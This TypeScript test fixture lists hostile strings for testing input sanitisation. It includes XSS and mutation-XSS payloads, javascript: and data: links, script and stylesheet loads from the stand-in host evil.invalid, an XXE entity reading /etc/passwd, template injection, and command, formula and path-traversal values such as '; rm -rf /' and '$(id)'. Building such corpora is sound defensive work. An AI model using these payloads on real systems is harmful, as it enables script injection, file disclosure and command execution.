/** A text that would run, break out, turn or hide something where it is put unguarded. */
export interface HostileString {
  readonly class: string;
  readonly text: string;
}

/** What a script does that must not run: it marks the page, which a test looks for. */
const RUN = 'globalThis.pwned=1';

const of = (name: string, texts: readonly string[]): readonly HostileString[] =>
  texts.map((text) => ({ class: name, text }));

/** By class, of our own writing. Each is put into every field and file that takes text. */
export const HOSTILE_STRINGS: readonly HostileString[] = [
  ...of('script', [
    `<script>${RUN}</script>`, `<ScRiPt/x>${RUN}</sCrIpT >`, `</p><script>${RUN}</script>`, `<script src=//evil.invalid/a.js></script>`,
    `<script type=module>${RUN}</script>`, `<<script>${RUN}//<</script>`, `<script\n>${RUN}</script>`, `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`,
    `<noscript><p title="</noscript><script>${RUN}</script>">`, `--><script>${RUN}</script>`, `]]><script>${RUN}</script>`,
  ]),
  ...of('handler', [
    `<img src=x onerror=${RUN}>`, `<body onload=${RUN}>`, `<details open ontoggle=${RUN}>x</details>`, `<input autofocus onfocus=${RUN}>`,
    `<p onmouseover=${RUN}>x`, `<video><source onerror=${RUN}></video>`, `<a href=# onclick=${RUN}>x</a>`, `<marquee onstart=${RUN}>x</marquee>`, `<img/src/onerror=${RUN}>`,
  ]),
  ...of('address', [
    `[x](javascript:${RUN})`, `[x](JaVaScRiPt:${RUN})`, `[x](java&#115;cript:${RUN})`, `[x](&#x6A;avascript:${RUN})`, `[x](java\tscript:${RUN})`, `[x](<java\u00ADscript:${RUN}>)`,
    `[x](\u0001javascript:${RUN})`, `[x](vbscript:msgbox)`, `[x](data:text/html,<script>${RUN}</script>)`, `[x](data:text/html;base64,PHNjcmlwdD4=)`, `<javascript:${RUN}>`, `[x]: javascript:${RUN}\n\n[x]`,
    `javascript:${RUN}`, `//evil.invalid/`, `\\\\evil.invalid`, `https:evil.invalid`, `https://a.example@evil.invalid/`, `https://a.example/"><script>${RUN}</script>`, `https://a.example/' onclick='${RUN}`,
    `![x](javascript:${RUN})`, `![x](https://evil.invalid/a.png)`, `![x](images/../../a.png)`, `blob:https://a.example/x`, `filesystem:https://a.example/x`, `file:///etc/passwd`, `%6Aavascript:${RUN}`,
  ]),
  ...of('svg', [
    `<svg onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<svg><foreignObject><script>${RUN}</script></foreignObject></svg>`, `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`, `</svg><script>${RUN}</script>`,
  ]),
  ...of('mathml', [`<math><mi xlink:href="javascript:${RUN}">x</mi></math>`, `<math href="javascript:${RUN}">x</math>`, `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`]),
  ...of('css', [
    `<style>@import "//evil.invalid/a.css";</style>`, `<link rel=stylesheet href=//evil.invalid/a.css>`, `<p style="background:url(//evil.invalid/a)">x</p>`, `</style><script>${RUN}</script>`, `*{background:url(//evil.invalid/a)}`, `red;background:url(//evil.invalid/a)`, `<div style="position:fixed;inset:0">x</div>`,
  ]),
  ...of('template', [
    '{{constructor.constructor("globalThis.pwned=1")()}}', '${globalThis.pwned=1}', '#{globalThis.pwned=1}', '<%= globalThis.pwned=1 %>', '{constructor}', '{link}', '{n}', '{__proto__}', '{name}', '{{ n }}', '{% raw %}', '$&$`$\'', '$1', '%s%n', '{toString}',
  ]),
  ...of('mutation', [
    `<noscript><style></noscript><img src=x onerror=${RUN}>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`, `<table><td><svg><td><desc><img src onerror=${RUN}>`, `<select><template><script>${RUN}</script></template></select>`, `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`, `<plaintext>`, `<iframe srcdoc="<script>parent.pwned=1</script>">`,
    `<object data="javascript:${RUN}">`, `<embed src="javascript:${RUN}">`, `<base href=//evil.invalid/>`, `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<form action=javascript:${RUN}><button>x</button></form>`, `<isindex action=javascript:${RUN}>`,
  ]),
  ...of('json-ld', [`</script><script>${RUN}</script>`, `"}</script><script>${RUN}</script>`, `<!--<script>`, `\\u003c/script\\u003e`, `"],"@context":"https://evil.invalid/","x":["`, `\u2028${RUN}\u2029`]),
  ...of('attribute', [`" onmouseover="${RUN}`, `' onfocus='${RUN}' autofocus='`, `"><img src=x onerror=${RUN}>`, `\` onload=${RUN} \``, `x" id="c-one" class="pilcrow`, `&quot; onclick=&quot;${RUN}`, `" srcdoc="<script>${RUN}</script>`]),
  ...of('comment', [`--><img src=x onerror=${RUN}>`, `--!><img src=x onerror=${RUN}>`, `<!--[if IE]><script>${RUN}</script><![endif]-->`, `*/${RUN}/*`, `]]>`, `<![CDATA[<script>${RUN}</script>]]>`, `<?xml version="1.0"?>`, `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;`]),
  ...of('direction', ['abc\u202Edef', 'abc\u202E', '\u2066abc', 'abc\u2069def', '\u200Fabc\u200E', '\u202Dabc\u202C', '\u061Cabc', '\u2067\u202E\u2066abc', 'a\u202A\u202B\u202Cb']),
  ...of('zero-width', ['a\u200Bb', 'a\u200Cb', 'a\u2060b', '\uFEFFa', 'a\u00ADb', '\u034Fa', '\u3164', '\u115F\u1160', '\u{E0041}\u{E0042}', 'a\uFE0F\uFE0F']),
  ...of('homograph', ['Тhе rivеr', 'ｊａｖａｓｃｒｉｐｔ：1', 'раураl', '＜script＞', '‹script›', 'https://аpple.example/', 'Ⅰ river', 'ℝiver']),
  ...of('amplification', [`| ${'a | '.repeat(200)}\n| ${'- | '.repeat(200)}\n${'| b |\n'.repeat(300)}`, `${'[a][b] '.repeat(600)}\n\n[b]: https://a.example/${'x'.repeat(3000)}`, `a${'[^1]'.repeat(600)}\n\n[^1]: b`, '*a '.repeat(600), `${'> '.repeat(60)}a`, 'x'.repeat(30_000), '\u0301'.repeat(100)]),
  ...of('command', ['\n::set-env name=PATH::x', '::error::x', '\u001B[2J', '\r\nSet-Cookie: x', '=cmd|\' /C calc\'!A1', '@SUM(1)', '+1+1', '-1', '`id`', '$(id)', '; rm -rf /', '../../../etc/passwd', '..\\..\\x', 'CON', '\u0000']),
  ...of('prototype', ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__', 'prototype']),
]; // prettier-ignore
